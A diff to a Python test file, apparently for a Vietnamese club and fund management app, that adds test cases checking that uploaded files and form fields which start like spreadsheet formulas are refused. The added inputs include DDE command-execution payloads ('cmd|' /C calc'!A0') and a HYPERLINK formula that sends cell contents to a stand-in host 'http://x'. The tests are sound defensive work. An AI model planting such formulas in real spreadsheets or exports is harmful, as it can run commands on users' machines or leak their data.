@@ -90,6 +90,13 @@ FILES = [
         "duplicate-id-in-database.xlsx", "members", "Số CCCD 038160000001 đã là của thành viên Lò Văn Bình"
     ),
     BadFile("formula-injection.xlsx", "members", "bắt đầu bằng dấu + như một công thức bảng tính"),
+    # Other free text that starts like a formula: refused like a name (places.text.NoFormulaStart).
+    BadFile("members-village-formula.csv", "members", "Thôn/Tổ dân phố “@SUM(A1)” bắt đầu bằng dấu @"),
+    BadFile("members-name-behind-a-tab.csv", "members", "Họ và tên “=1+1” bắt đầu bằng dấu = như một công thức"),
+    BadFile("clubs-village-formula.xlsx", "clubs", 'Thôn/Tổ dân phố “=HYPERLINK("http://x/?"&A1,"Bấm")” bắt đầu'),
+    BadFile("clubs-decision-formula.csv", "clubs", "Số quyết định “+1” bắt đầu bằng dấu + như một công thức"),
+    BadFile("loans-purpose-formula.xlsx", "loans", "Mục đích “-2+3+cmd|' /C calc'!A0” bắt đầu bằng dấu -"),
+    BadFile("contributions-note-formula.csv", "contributions", 'Ghi chú “=HYPERLINK("http://x/?"&A1,"Bấm")” bắt'),
     BadFile("mixed-encodings.xlsx", "members", "“NguyÔn ThÞ Hoµ” được gõ bằng bảng mã cũ TCVN3 (ABC)"),
     BadFile("utf16-bom.csv", "members", "“Không rõ” không phải giới tính hợp lệ"),
     BadFile("name-too-long.xlsx", "members", "Họ và tên dài quá 120 ký tự."),
@@ -481,6 +488,18 @@ FORMS = {
         lambda w: _member_form(w, full_name='=HYPERLINK("http://x","Bấm")'),
         "bắt đầu bằng dấu = như một công thức bảng tính",
     ),
+    "a village that is a formula": (
+        lambda w: _member_form(w, village="@SUM(A1)"),
+        "Thôn/tổ dân phố “@SUM(A1)” bắt đầu bằng dấu @ như một công thức bảng tính",
+    ),
+    "a contribution note that is a formula": (
+        lambda w: (
+            reverse("funds:entry-add", args=[w["club"].pk]),
+            {"fund": w["income"].pk, "kind": "contribution", "entry_date": "01/03/2024", "amount": "500.000",
+             "source": "members", "note": "+1+cmd|' /C calc'!A0"},
+        ),
+        "Ghi chú “+1+cmd|&#x27; /C calc&#x27;!A0” bắt đầu bằng dấu +",
+    ),  # fmt: skip
     "a repayment above the debt": (
         lambda w: (
             reverse("funds:loan-repay", args=[w["loan"].pk]),
